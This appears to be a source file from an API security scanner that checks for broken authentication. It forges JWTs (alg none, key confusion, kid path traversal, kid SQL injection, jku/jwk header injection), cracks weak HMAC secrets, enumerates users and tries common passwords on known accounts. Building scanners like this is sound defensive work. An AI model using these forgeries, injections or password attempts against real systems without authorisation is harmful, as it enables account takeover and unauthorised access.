// API2 checkers: operations answering without (valid) credentials, JWT forgeries, weak HMAC
// secrets, user enumeration through different login / reset answers.

import { createHmac, createPublicKey, type JsonWebKey, timingSafeEqual } from 'node:crypto';
import { exportJWK, generateKeyPair, SignJWT } from 'jose';
import type { SpecOperation } from '../../model/index.js';
import { answered2xx, denied, isSecured, ok, parseJson, type ScanContext } from '../context.js';
import { credentialFields, hasPathParams, isLoginOp, isResetOp, resetField } from '../ops.js';
import type { Identity, ScanExchange, ScanTest } from '../types.js';
import { directoryListings } from './files.js';
import { JWT_WORDLIST } from './wordlist.js';

const b64u = (v: string | Buffer) => Buffer.from(v).toString('base64url');

export function splitJwt(
  value: string,
): { header: Record<string, unknown>; payload: Record<string, unknown>; parts: string[] } | undefined {
  const token = value.replace(/^bearer\s+/i, '').trim();
  const parts = token.split('.');
  if (parts.length !== 3) return undefined;
  try {
    const header = JSON.parse(Buffer.from(parts[0]!, 'base64url').toString('utf8')) as Record<
      string,
      unknown
    >;
    const payload = JSON.parse(Buffer.from(parts[1]!, 'base64url').toString('utf8')) as Record<
      string,
      unknown
    >;
    return { header, payload, parts };
  } catch {
    return undefined;
  }
}

function hs256(
  header: Record<string, unknown>,
  payload: Record<string, unknown>,
  key: string | Buffer,
): string {
  const signing = `${b64u(JSON.stringify(header))}.${b64u(JSON.stringify(payload))}`;
  return `${signing}.${createHmac('sha256', key).update(signing).digest('base64url')}`;
}

/** The first identity whose credential is a JWT. */
function jwtIdentity(
  ctx: ScanContext,
): { identity: Identity; jwt: NonNullable<ReturnType<typeof splitJwt>> } | undefined {
  for (const identity of [...ctx.users, ...ctx.identities]) {
    const jwt = splitJwt(identity.value);
    if (jwt) return { identity, jwt };
  }
  return undefined;
}

/** Secured, safe, parameter-resolvable operations whose answer as the identity is 2xx and whose
 *  answer to a garbage credential is a denial: the only places an accepted forgery means anything. */
async function guardedOps(
  ctx: ScanContext,
  identity: Identity,
): Promise<Array<{ op: SpecOperation; owner: ScanExchange; garbage: ScanExchange }>> {
  const out: Array<{ op: SpecOperation; owner: ScanExchange; garbage: ScanExchange }> = [];
  for (const op of ctx.ops((o) => o.method === 'GET' && isSecured(o))) {
    const req = ctx.sampleRequest(op, identity);
    if (!req) continue;
    const owner = await ctx.send({ ...req, note: 'as the identity' });
    if (!ok(owner) || !hasData(owner.response.body)) continue;
    const garbage = await ctx.send({
      ...req,
      headers: { ...req.headers, [identity.header]: `Bearer ${ctx.rng.marker('invalid')}` },
      as: 'garbage token',
      note: 'control: garbage token',
    });
    if (ctx.plan || denied(garbage)) out.push({ op, owner, garbage: garbage! });
  }
  return out;
}

/** API2: a secured operation answers 2xx with no credential, or with an invalid one. */
export async function authRequired(ctx: ScanContext, test: ScanTest): Promise<void> {
  const variant = String(test.options['credential'] ?? 'none');
  for (const op of ctx.ops((o) => o.method === 'GET' && isSecured(o))) {
    const identity = ctx.defaultIdentity(op);
    const req = ctx.sampleRequest(op, identity);
    if (!req || !identity) continue;
    const headers = { ...req.headers };
    delete headers[identity.header];
    let label = 'no credentials';
    if (variant === 'random')
      headers[identity.header] = `Bearer ${ctx.rng.marker('tok')}${ctx.rng.marker('')}`;
    else if (variant === 'empty') headers[identity.header] = 'Bearer ';
    else if (variant === 'basic')
      headers[identity.header] = `Basic ${b64u(`${ctx.rng.marker('u')}:${ctx.rng.marker('p')}`)}`;
    if (variant !== 'none') label = `${variant} credential`;
    const probe = await ctx.send({ ...req, headers, as: '', note: label });
    if (!ok(probe)) continue;
    const legit = await ctx.send({ ...req, note: 'control: as the identity' });
    if (!ok(legit) || !hasData(legit.response.body)) continue; // an empty answer proves nothing
    // A different answer for the anonymous call (a public teaser) is not the protected resource.
    if (!similarBodies(probe.response.body, legit.response.body)) continue;
    ctx.report(test, {
      op,
      proof: [probe, legit],
      control: `the spec declares security for ${op.method} ${op.path}; the answer with ${label} matches the identity's answer`,
      detail: `${op.method} ${op.path} answered ${probe.response.status} with ${label}.`,
      detailJa: `${op.method} ${op.path} が ${label} で ${probe.response.status} を返した。`,
      controlJa: `仕様は ${op.method} ${op.path} にセキュリティを宣言しており、${label} での応答がその利用者本人の応答と一致する`,
      confidence: 0.9,
    });
  }
}

/** API2: forged JWTs (alg none, stripped/tampered signature, kid/jku/jwk tricks, expired) accepted. */
export async function jwtForgery(ctx: ScanContext, test: ScanTest): Promise<void> {
  const found = jwtIdentity(ctx);
  if (!found) return;
  const { identity, jwt } = found;
  const attack = String(test.options['attack']);
  const claims = { ...jwt.payload };
  let token: string | undefined;
  /** Several candidate tokens (key confusion: one per form of each public key); the first accepted wins. */
  let candidates: string[] | undefined;
  switch (attack) {
    case 'key-confusion': {
      // RS256→HS256: the server's public key used as the HMAC secret. A library that takes the
      // algorithm from the token verifies this with the key it would use for RS256.
      const keys = await serverPublicKeys(ctx);
      if (keys.length === 0) return;
      candidates = keys.map((k) => hs256({ alg: 'HS256', typ: 'JWT' }, claims, k));
      break;
    }
    case 'alg-none': {
      const alg = String(test.options['alg'] ?? 'none');
      token = `${b64u(JSON.stringify({ ...jwt.header, alg }))}.${b64u(JSON.stringify(claims))}.`;
      break;
    }
    case 'strip-signature':
      token = `${jwt.parts[0]}.${jwt.parts[1]}.`;
      break;
    case 'tamper': {
      // Same header and signature, different claims: only an unverified signature accepts it.
      claims['mamori'] = ctx.rng.marker('t');
      token = `${jwt.parts[0]}.${b64u(JSON.stringify(claims))}.${jwt.parts[2]}`;
      break;
    }
    case 'expired': {
      if (!ctx.crackedSecret) return; // needs a key the server trusts: chained on jwt-weak-secret
      const now = Math.floor(Date.now() / 1000);
      token = hs256(
        { ...jwt.header, alg: 'HS256' },
        { ...claims, iat: now - 7200, exp: now - 3600 },
        ctx.crackedSecret,
      );
      break;
    }
    case 'kid-traversal':
      token = hs256(
        { alg: 'HS256', typ: 'JWT', kid: '../../../../../../../../dev/null' },
        claims,
        Buffer.alloc(0),
      );
      break;
    case 'kid-sqli': {
      const key = ctx.rng.marker('k');
      token = hs256(
        { alg: 'HS256', typ: 'JWT', kid: `${ctx.rng.marker('x')}' UNION SELECT '${key}' -- ` },
        claims,
        key,
      );
      break;
    }
    case 'jku':
    case 'jwk': {
      if (attack === 'jku' && !ctx.callback) return;
      const { privateKey, publicKey } = await generateKeyPair('RS256', { extractable: true });
      const jwk = { ...(await exportJWK(publicKey)), kid: ctx.rng.marker('kid'), alg: 'RS256', use: 'sig' };
      const header: Record<string, unknown> = { alg: 'RS256', typ: 'JWT', kid: jwk.kid };
      let jkuToken = '';
      if (attack === 'jku') {
        jkuToken = ctx.rng.marker('jwks');
        header['jku'] = ctx.callback!.serve(jkuToken, JSON.stringify({ keys: [jwk] }));
      } else header['jwk'] = jwk;
      token = await new SignJWT(claims).setProtectedHeader(header as { alg: string }).sign(privateKey);
      break;
    }
    default:
      throw new Error(`jwt-forgery: unknown attack ${attack}`);
  }
  // Token validation is usually global: one finding per forgery, naming every operation that took it.
  const accepted: Array<{ op: SpecOperation; proof: ScanExchange[]; garbage: ScanExchange }> = [];
  const guarded = await guardedOps(ctx, identity);
  for (const t of candidates ?? (token ? [token] : [])) {
    ctx.masker.addSecret(t);
    for (const { op, owner, garbage } of candidates && accepted.length === 0
      ? guarded.slice(0, 1)
      : guarded) {
      const req = ctx.sampleRequest(op, identity)!;
      const forged = await ctx.send({
        ...req,
        headers: { ...req.headers, [identity.header]: `Bearer ${t}` },
        as: `forged JWT (${attack})`,
        note: `forged JWT: ${attack}`,
      });
      if (!ok(forged) || !similarBodies(forged.response.body, owner.response.body)) continue;
      accepted.push({ op, proof: [owner, garbage, forged], garbage });
    }
    if (accepted.length > 0) break;
  }
  const first = accepted[0];
  if (!first) return;
  const others = accepted.slice(1).map((a) => `${a.op.method} ${a.op.path}`);
  ctx.report(test, {
    op: first.op,
    proof: first.proof,
    control: `a garbage token got ${first.garbage.response.status} on the same request, so the operation does check tokens; the forged token got the identity's answer`,
    detail: `A JWT forged with "${attack}" was accepted by ${first.op.method} ${first.op.path}${others.length ? ` and ${others.length} more of the ${guarded.length} token-checking operations tested (${others.slice(0, 5).join(', ')}${others.length > 5 ? ', …' : ''})` : ''}.`,
    detailJa: `「${attack}」で偽造した JWT を ${first.op.method} ${first.op.path}${others.length ? ` と、試したトークン検査のある ${guarded.length} 操作のうち他の ${others.length} 操作(${others.slice(0, 5).join('、')}${others.length > 5 ? '、…' : ''})` : ''}が受け入れた。`,
    controlJa: `でたらめなトークンは同じリクエストで ${first.garbage.response.status} となり、操作はトークンを検査している。偽造トークンには利用者本人と同じ応答が返った`,
    confidence: 0.95,
  });
}

/** API2: the identity's HS256 token is signed with a secret from a wordlist (proved offline by
 *  recomputing its signature; no request needed, none sent). */
export async function jwtWeakSecret(ctx: ScanContext, test: ScanTest): Promise<void> {
  const found = jwtIdentity(ctx);
  if (!found || !/^HS(256|384|512)$/.test(String(found.jwt.header['alg']))) return;
  const alg = `sha${String(found.jwt.header['alg']).slice(2)}`;
  const signing = `${found.jwt.parts[0]}.${found.jwt.parts[1]}`;
  const sig = Buffer.from(found.jwt.parts[2]!, 'base64url');
  for (const secret of JWT_WORDLIST) {
    const mac = createHmac(alg, secret).update(signing).digest();
    if (mac.length === sig.length && timingSafeEqual(mac, sig)) {
      ctx.crackedSecret = secret;
      ctx.masker.addSecret(secret);
      const op = ctx.ops((o) => o.method === 'GET' && isSecured(o) && !hasPathParams(o))[0];
      const req = op ? ctx.sampleRequest(op, found.identity) : undefined;
      const forgedToken = hs256(
        found.jwt.header,
        { ...found.jwt.payload, mamori: ctx.rng.marker('w') },
        secret,
      );
      ctx.masker.addSecret(forgedToken);
      const confirm = req
        ? await ctx.send({
            ...req,
            headers: { ...req.headers, [found.identity.header]: `Bearer ${forgedToken}` },
            as: 'token signed with the recovered secret',
          })
        : undefined;
      ctx.report(test, {
        ...(op ? { op } : {}),
        where: `identity ${found.identity.name}`,
        proof: confirm ? [confirm] : [],
        control: `HMAC-${alg.toUpperCase()} of the token's header.payload with the recovered secret equals its signature (offline proof)${ok(confirm) ? '; a token signed with it was accepted' : ''}`,
        detail: `The ${String(found.jwt.header['alg'])} signing secret of ${found.identity.name}'s token is a common word (${secret.length} characters, masked).`,
        detailJa: `${found.identity.name} のトークンの ${String(found.jwt.header['alg'])} 署名鍵はよく使われる単語である(${secret.length} 文字、マスク済み)。`,
        controlJa: `復元した鍵によるトークンの header.payload の HMAC-${alg.toUpperCase()} が署名と一致する(オフラインでの証明)${ok(confirm) ? '。この鍵で署名したトークンも受け入れられた' : ''}`,
        confidence: 1,
      });
      return;
    }
  }
}

/** API2: login or reset answers differ between an existing and an unknown account. */
export async function userEnumeration(ctx: ScanContext, test: ScanTest): Promise<void> {
  const flow = String(test.options['flow'] ?? 'login');
  const known = knownAccounts(ctx);
  for (const op of ctx.ops((o) => (flow === 'login' ? isLoginOp(o) : isResetOp(o)))) {
    const fields: { user?: string | undefined; pass?: string | undefined } =
      flow === 'login' ? credentialFields(op) : { user: resetField(op) };
    if (!fields.user) continue;
    const userField = fields.user;
    const account = known.find((k) => (/mail/i.test(userField) ? k.includes('@') : !k.includes('@')));
    if (!account) continue;
    const body = (user: string) => {
      const b: Record<string, unknown> = {
        ...((ctx.sampleBody(op) as Record<string, unknown>) ?? {}),
        [userField]: user,
      };
      if (fields.pass) b[fields.pass] = `Wrong-${ctx.rng.marker('pw')}`;
      return JSON.stringify(b);
    };
    const unknownUser = (/mail/i.test(userField) ? (s: string) => `${s}@example.invalid` : (s: string) => s)(
      ctx.rng.marker('nouser'),
    );
    const unknownUser2 = (/mail/i.test(userField) ? (s: string) => `${s}@example.invalid` : (s: string) => s)(
      ctx.rng.marker('nouser'),
    );
    const send = (user: string, note: string) =>
      ctx.send({ method: op.method, path: ctx.fullPath(op.path), body: body(user), op, as: '', note });
    const a = await send(account, 'existing account, wrong secret');
    const b = await send(unknownUser, 'unknown account');
    const c = await send(unknownUser2, 'control: another unknown account');
    if (!a || !b || !c || a.response.status === 429 || b.response.status === 429 || c.response.status === 429)
      continue;
    const norm = (ex: ScanExchange) =>
      `${ex.response.status} ${normalise(ex.response.body, [account, unknownUser, unknownUser2])}`;
    if (norm(b) !== norm(c)) continue; // the answer to unknown accounts is not even stable
    if (norm(a) === norm(b)) continue;
    ctx.report(test, {
      op,
      proof: [a, b, c],
      control:
        'two different unknown accounts got the identical answer, so the difference comes from the account existing',
      detail: `${op.method} ${op.path} answers ${a.response.status} for an existing account and ${b.response.status} for an unknown one, with different messages.`,
      detailJa: `${op.method} ${op.path} は、存在するアカウントには ${a.response.status}、存在しないアカウントには ${b.response.status} を、異なるメッセージで返す。`,
      controlJa: '存在しない二つのアカウントには同一の応答が返るため、違いはアカウントの存在によるもの',
      confidence: 0.9,
    });
  }
}

export function knownAccounts(ctx: ScanContext): string[] {
  const out: string[] = [];
  for (const identity of ctx.identities) {
    const jwt = splitJwt(identity.value);
    const profile = ctx.profiles.get(identity.name) ?? {};
    for (const v of [
      profile['username'],
      profile['email'],
      profile['login'],
      jwt?.payload['username'],
      jwt?.payload['email'],
      jwt?.payload['sub'],
    ]) {
      if (typeof v === 'string' && v && !out.includes(v)) out.push(v);
    }
  }
  return out;
}

function normalise(body: string, values: string[]): string {
  let out = body;
  for (const v of values) out = out.split(v).join('<v>');
  return out.replace(/\d{4}-\d\d-\d\dT[\d:.]+Z?/g, '<t>').replace(/[0-9a-f]{16,}/gi, '<h>');
}

/** Same resource: equal bodies, or JSON of the same shape (keys to depth 3, non-empty arrays and
 *  objects) with the same ids. `{"user":{}}` and `{"user":{"id":1,…}}` are NOT the same resource. */
export function similarBodies(a: string, b: string): boolean {
  if (a === b) return true;
  const ja = parseJson(a);
  const jb = parseJson(b);
  if (ja !== undefined && jb !== undefined)
    return shapeOf(ja, 0) === shapeOf(jb, 0) && idsOf(ja) === idsOf(jb);
  if (ja !== undefined || jb !== undefined) return false;
  return Math.abs(a.length - b.length) <= Math.max(16, b.length * 0.1);
}

function shapeOf(v: unknown, depth: number): string {
  if (Array.isArray(v)) return v.length === 0 ? '[]' : `[${depth < 3 ? shapeOf(v[0], depth + 1) : '…'}]`;
  if (v && typeof v === 'object') {
    const keys = Object.keys(v).sort();
    if (keys.length === 0) return '{}';
    return `{${keys.map((k) => `${k}:${depth < 3 ? shapeOf((v as Record<string, unknown>)[k], depth + 1) : '…'}`).join(',')}}`;
  }
  return v === null ? 'null' : typeof v;
}

function idsOf(v: unknown): string {
  const out: string[] = [];
  const walk = (x: unknown, depth: number) => {
    if (depth > 3 || !x || typeof x !== 'object') return;
    if (Array.isArray(x)) {
      for (const el of x.slice(0, 5)) walk(el, depth + 1);
      return;
    }
    for (const [k, val] of Object.entries(x)) {
      if (/^(id|_id|uuid)$/i.test(k) && (typeof val === 'string' || typeof val === 'number'))
        out.push(String(val));
      else walk(val, depth + 1);
    }
  };
  walk(v, 0);
  return out.join(',');
}

/** The answer carries some data: a non-empty text, or JSON with at least one non-empty value. */
export function hasData(body: string): boolean {
  const j = parseJson(body);
  if (j === undefined) return body.trim().length > 0;
  const walk = (v: unknown, depth: number): boolean => {
    if (depth > 6) return true;
    if (Array.isArray(v)) return v.some((x) => walk(x, depth + 1));
    if (v && typeof v === 'object') return Object.values(v).some((x) => walk(x, depth + 1));
    return v !== null && v !== '' && v !== undefined;
  };
  return walk(j, 0);
}

/** Passwords that top every breach list (and default admin passwords), tried on few known accounts. */
const COMMON_PASSWORDS = [
  'admin123',
  'admin',
  'password',
  '123456',
  'Password1',
  'password123',
  'admin1234',
  'letmein',
  'qwerty',
  'changeme',
];
const EMAIL_IN_TEXT = /[\w.+-]{1,64}@[\w-]{1,63}(?:\.[\w-]{1,63})+/g;

/** Accounts the scan saw: the identities' own, then e-mail addresses in answers (admins first). */
function accountsSeen(ctx: ScanContext, max: number): string[] {
  const seen = new Set(knownAccounts(ctx));
  for (const ex of ctx.client.exchanges) {
    for (const m of ex.response.body.matchAll(EMAIL_IN_TEXT)) if (!m[0].endsWith('.example')) seen.add(m[0]);
  }
  const all = [...seen].filter(
    (a) => !/mamori|example\.(com|org|net)$/i.test(a) || knownAccounts(ctx).includes(a),
  );
  return [...all.filter((a) => /admin|root/i.test(a)), ...all.filter((a) => !/admin|root/i.test(a))].slice(
    0,
    max,
  );
}

/** API2: an account the scan knows of logs in with one of the most common passwords. */
export async function commonPassword(ctx: ScanContext, test: ScanTest): Promise<void> {
  const maxAccounts = Number(test.options['accounts'] ?? 5);
  for (const op of ctx.ops(isLoginOp)) {
    const f = credentialFields(op);
    if (!f.user || !f.pass) continue;
    const wantsEmail = /mail/i.test(f.user);
    const sample = (ctx.sampleBody(op) as Record<string, unknown>) ?? {};
    const login = (user: string, password: string, note: string) =>
      ctx.send({
        method: op.method,
        path: ctx.fullPath(op.path),
        body: JSON.stringify({ ...sample, [f.user!]: user, [f.pass!]: password }),
        op,
        as: '',
        note,
      });
    const accounts = accountsSeen(ctx, 50)
      .filter((a) => a.includes('@') === wantsEmail)
      .slice(0, maxAccounts);
    for (const account of accounts) {
      const control = await login(account, `Wrong-${ctx.rng.marker('pw')}`, 'control: a wrong password');
      if (!control || answered2xx(control)) continue;
      for (const password of COMMON_PASSWORDS) {
        const probe = await login(account, password, 'common password');
        if (!ok(probe) || !/token|session|jwt|authentication/i.test(probe.response.body)) continue;
        ctx.report(test, {
          op,
          where: account,
          proof: [control, probe],
          control: `a wrong password for ${account} got ${control.response.status}; "${password}" logged in`,
          detail: `The account ${account} uses the common password "${password}" (${COMMON_PASSWORDS.length} most common tried).`,
          detailJa: `アカウント ${account} はよく使われるパスワード「${password}」を使っている(上位 ${COMMON_PASSWORDS.length} 件を試行)。`,
          controlJa: `${account} に誤ったパスワードを送ると ${control.response.status} となり、「${password}」ではログインできた`,
          confidence: 1,
        });
        break;
      }
    }
  }
}

const JWKS_PATHS = [
  '/.well-known/jwks.json',
  '/jwks.json',
  '/.well-known/openid-configuration',
  '/oauth/jwks',
  '/keys',
];
const PEM = /-----BEGIN (?:RSA )?PUBLIC KEY-----[\s\S]+?-----END (?:RSA )?PUBLIC KEY-----\n?/g;

/** Public keys the target publishes (JWKS documents, PEM files in listed folders), each in the
 *  textual forms a server might use as its key: the PEM as served, with and without its final
 *  newline, and PEM exports (SPKI, PKCS#1) of JWKS keys. */
export async function serverPublicKeys(ctx: ScanContext): Promise<string[]> {
  if (ctx.publicKeys) return ctx.publicKeys;
  const forms = new Set<string>();
  const addPem = (pem: string) => {
    forms.add(pem.endsWith('\n') ? pem : `${pem}\n`);
    forms.add(pem.trimEnd());
  };
  const addJwk = (jwk: unknown) => {
    try {
      const key = createPublicKey({ key: jwk as JsonWebKey, format: 'jwk' });
      addPem(String(key.export({ type: 'spki', format: 'pem' })));
      if ((jwk as { kty?: string }).kty === 'RSA')
        addPem(String(key.export({ type: 'pkcs1', format: 'pem' })));
    } catch {
      // not a public key this runtime can read
    }
  };
  for (const prefix of [...new Set(['', ctx.basePath])]) {
    for (const p of JWKS_PATHS) {
      const ex = await ctx.send({
        method: 'GET',
        path: `${prefix}${p}`,
        as: '',
        note: 'published signing keys',
      });
      if (!ok(ex)) continue;
      const doc = parseJson(ex.response.body) as { keys?: unknown[]; jwks_uri?: unknown } | undefined;
      for (const k of Array.isArray(doc?.keys) ? doc.keys.slice(0, 5) : []) addJwk(k);
      for (const m of ex.response.body.matchAll(PEM)) addPem(m[0]);
    }
  }
  for (const l of await directoryListings(ctx)) {
    for (const f of l.files) for (const m of f.ex.response.body.matchAll(PEM)) addPem(m[0]);
  }
  ctx.publicKeys = [...forms].slice(0, 12);
  return ctx.publicKeys;
}
